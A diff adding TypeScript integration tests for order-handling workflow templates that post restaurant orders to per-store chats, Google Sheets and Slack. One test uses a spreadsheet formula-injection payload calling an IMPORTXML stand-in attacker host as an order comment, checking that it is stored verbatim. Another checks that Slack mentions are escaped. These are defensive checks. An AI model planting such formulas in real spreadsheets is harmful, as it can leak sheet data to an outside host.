@@ -1,0 +1,121 @@
+import { eventually } from '../../host/eventually';
+import { ChatRoom, KITCHEN } from './chat';
+import { onEachHost } from './context';
+import { createSlackCredential, importGoogleCredential, useElsewhere } from './elsewhere';
+import { useInstance } from './instance';
+import { useTemplates, withParameters } from './templates';
+
+const PODIL = -1001000000003;
+const FORMULA = '=IMPORTXML("http://evil.example.test") <b>';
+
+onEachHost((host) => {
+	const { sheets, slack, env } = useElsewhere();
+	const given = useInstance(host, 'sheets', { sampleMenu: true }, env);
+	const { credentials, template, publish, changeStatus, placed, succeeded } = useTemplates(given);
+	const chat = new ChatRoom(given);
+
+	beforeAll(async () => {
+		credentials.push(await importGoogleCredential(host, given));
+		credentials.push(await createSlackCredential(given.api));
+	});
+
+	const trigger = 'Merchant Storefront Orders Trigger';
+
+	test('One chat per store: an order comes to the chat of its store, others to the default', async () => {
+		sheets.tabs.set('Stores', [
+			['Store ID', 'Chat ID'],
+			['podil', PODIL],
+		]);
+		const known = given.sandbox.placeOrder({ storeId: 'podil' }).order;
+		const unknown = given.sandbox.placeOrder({ storeId: 'obolon' }).order;
+		await publish(template('one-chat-per-store'));
+		const message = await chat.message(known.number, PODIL);
+		await chat.message(unknown.number, KITCHEN);
+		expect(message.reply_markup?.inline_keyboard.flat()).toContainEqual({
+			text: '30 min',
+			callback_data: `order:30:${known.id}`,
+		});
+	});
+
+	test('One chat per store: without its sheet, orders come to the default chat', async () => {
+		sheets.tabs.delete('Stores');
+		const { order } = given.sandbox.placeOrder({ storeId: 'podil' });
+		await publish(template('one-chat-per-store'));
+		await chat.message(order.number, KITCHEN);
+	});
+
+	test('Orders in a Google sheet: a row follows its order, and each dish has one', async () => {
+		sheets.tabs.set('Orders', []).set('Dishes', []);
+		const { order } = given.sandbox.placeOrder({ comment: FORMULA });
+		const { id } = await given.api.createWorkflow(template('orders-in-a-google-sheet'));
+		await given.api.run(id, trigger);
+		expect(sheets.rows('Orders')).toMatchObject([
+			{ 'Order ID': order.id, Status: 'New', Total: order.netPrice.value, Comment: FORMULA },
+		]);
+		await changeStatus(order.id, 'preparation');
+		const execution = await given.api.run(id, trigger);
+		expect(execution.status).toBe('success');
+		expect(sheets.rows('Orders')).toMatchObject([
+			{ 'Order ID': order.id, Status: 'In Preparation', Comment: FORMULA },
+		]);
+		expect(sheets.rows('Dishes').map(({ SKU, Quantity }) => [SKU, Quantity])).toEqual(
+			order.items.map(({ sku, quantityFulfilled }) => [sku, quantityFulfilled]),
+		);
+	});
+
+	/** What somebody sends from the form behind the button, once the run has come to wait. */
+	async function answer(link: string, choice: string): Promise<void> {
+		await eventually('the form asks', async () => {
+			const page = await fetch(link, { signal: AbortSignal.timeout(5_000) })
+				.then(async (response) => await response.text())
+				.catch(() => '');
+			return page.includes('Decline');
+		});
+		const body = new FormData();
+		body.set('field-0', JSON.stringify([choice]));
+		await fetch(link, { method: 'POST', body, signal: AbortSignal.timeout(20_000) }).catch(
+			() => {},
+		);
+	}
+
+	const said = async (part: string) =>
+		await eventually(`"${part}" in Slack`, () =>
+			slack.messages.find((message) => message.text?.includes(part)),
+		);
+
+	test('Order to Slack: the form accepts the order with the chosen time', async () => {
+		await publish(template('order-to-slack'));
+		const { order } = given.sandbox.placeOrder({ comment: 'see <!channel> & *run*' });
+		const message = await said(order.number);
+		expect(message.text).toContain('&lt;!channel&gt; &amp;');
+		const link = await eventually('a button', () => slack.links.at(-1));
+		await answer(link, '30 min');
+		await said(`✅ Order ${order.number}: In Preparation, 30 min`);
+		expect(placed(order.id).order).toMatchObject({
+			status: 'preparation',
+			estimatedCookingTime: 30,
+		});
+	});
+
+	test('Order to Slack: an answer that comes too late changes nothing', async () => {
+		const before = slack.links.length;
+		await publish(template('order-to-slack'));
+		const { order } = given.sandbox.placeOrder();
+		const link = await eventually('a button', () => slack.links[before]);
+		await changeStatus(order.id, 'canceled');
+		await answer(link, '20 min');
+		await said(`⚠️ Order ${order.number} was not changed`);
+	});
+
+	test('Order to Slack: after the time limit the channel hears that the order is New', async () => {
+		const limit = { limitType: 'afterTimeInterval', resumeAmount: 1, resumeUnit: 'seconds' };
+		const draft = template('order-to-slack');
+		const asking = draft.nodes.find(({ name }) => name === 'Ask for the time');
+		const options = { ...(asking?.parameters.options as object), limitWaitTime: { values: limit } };
+		const id = await publish(withParameters(draft, { 'Ask for the time': { options } }));
+		const { order } = given.sandbox.placeOrder();
+		await said(`⏰ Nobody has answered for order ${order.number}`);
+		await succeeded(id, 1);
+		expect(placed(order.id).order.status).toBe('new');
+	});
+});
